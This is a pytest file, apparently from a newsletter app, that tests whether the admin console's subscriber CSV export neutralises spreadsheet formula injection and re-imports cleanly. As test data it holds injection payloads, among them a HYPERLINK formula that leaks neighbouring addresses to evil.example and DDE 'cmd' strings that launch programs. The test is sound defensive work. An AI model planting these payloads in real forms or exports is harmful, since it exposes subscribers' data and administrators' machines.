"""Red team, the console's CSV export of subscribers (formula injection).

Anyone may sign up, with any name and, within the address rules, a local part starting with
``=``, ``+`` or ``-``; an unconfirmed sign-up is exported too. A cell that starts with
``=``, ``+``, ``-`` or ``@`` is a formula to the spreadsheet the administrator opens the export
in (``=HYPERLINK(...)`` sends the neighbouring cells, other people's addresses, to a stranger's
server when clicked). Through the real sign-up form and the real console export (the app over
ASGI, SQLite and PostgreSQL): no cell of the export starts a formula, each guarded cell is the
value behind a ``'`` (what spreadsheets show as text), and the export imported again through the
console's preview reads as the very same subscribers: every line unchanged, nothing refused.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from fastapi import FastAPI
from sqlmodel import Session, select

from notifier.context import Context
from notifier.web import create_app
from subscribers.models import Subscriber
from tests.support.signup import sign_up_from
from tests.support.staff import fast_hasher, login, staff_client  # noqa: F401 (fixture)

pytestmark = pytest.mark.usefixtures("fast_hasher")

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: (address, name) signed up through the public form
HOSTILE = [
    ("formel@kommune.no", '=HYPERLINK("https://evil.example/?"&A3;"Klikk her")'),
    ("pluss@kommune.no", "+47 22 00 00 00"),
    ("minus@kommune.no", "-2+3+cmd|' /C calc'!A0"),
    ("kroll@kommune.no", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("=1+2@kommune.no", "Vanlig Navn"),
    ("-ola@kommune.no", "Ola"),
    ("+kari@kommune.no", "'=allerede med apostrof"),
    ("vanlig@kommune.no", "Kari Nordmann"),
]


@pytest.fixture
def app(ctx: Context) -> FastAPI:
    return create_app(ctx)


async def sign_up(app: FastAPI, n: int, email: str, name: str) -> None:
    status = await sign_up_from(app, f"198.51.100.{40 + n}", email, name=name)
    assert status == 200, (email, status)


def stored(ctx: Context) -> dict[str, str]:
    with Session(ctx.engine) as session:
        return {p.email: p.name for p in session.exec(select(Subscriber))}


async def export(ctx: Context, app: FastAPI) -> str:
    for n, (email, name) in enumerate(HOSTILE):
        await sign_up(app, n, email, name)
    assert stored(ctx) == dict(HOSTILE)
    async with staff_client(ctx, app) as client:
        _, csrf = await login(client, ctx, role="admin")
        answer = await client.post("/staff/abonnenter/eksport", data={"csrf_token": csrf})
    assert answer.status_code == 200, answer.text
    return answer.text


async def test_no_cell_of_the_export_starts_a_formula(ctx: Context, app: FastAPI) -> None:
    text = await export(ctx, app)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    started = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert started == [], started
    cells = {cell for row in rows[1:] for cell in row[:2]}
    for email, name in HOSTILE:
        for value in (email, name):
            guarded = value.startswith(FORMULA_START) or value.startswith("'=")
            assert ("'" + value if guarded else value) in cells, value


async def test_the_export_imports_back_as_the_same_subscribers(ctx: Context, app: FastAPI) -> None:
    text = await export(ctx, app)
    async with staff_client(ctx, app) as client:
        _, csrf = await login(client, ctx, role="admin")
        page = await client.post(
            "/staff/abonnenter/import",
            data={"csrf_token": csrf},
            files={"fil": ("eksport.csv", text.encode(), "text/csv")},
        )
    assert page.status_code == 200, page.text
    counts = {
        title: int(n)
        for n, title in re.findall(r"<li><strong>(\d+)</strong>([^<]+)</li>", page.text)
    }
    # unconfirmed sign-ups are confirmed by an import (staff vouch for them): a change of
    # state, but no change of address or name
    assert counts.get("Avvist (feil i linjen)", 0) == 0, counts
    assert counts.get("Nye abonnenter", 0) == 0, counts
    assert "navn:" not in page.text, "a name would change on import"
    assert stored(ctx) == dict(HOSTILE)
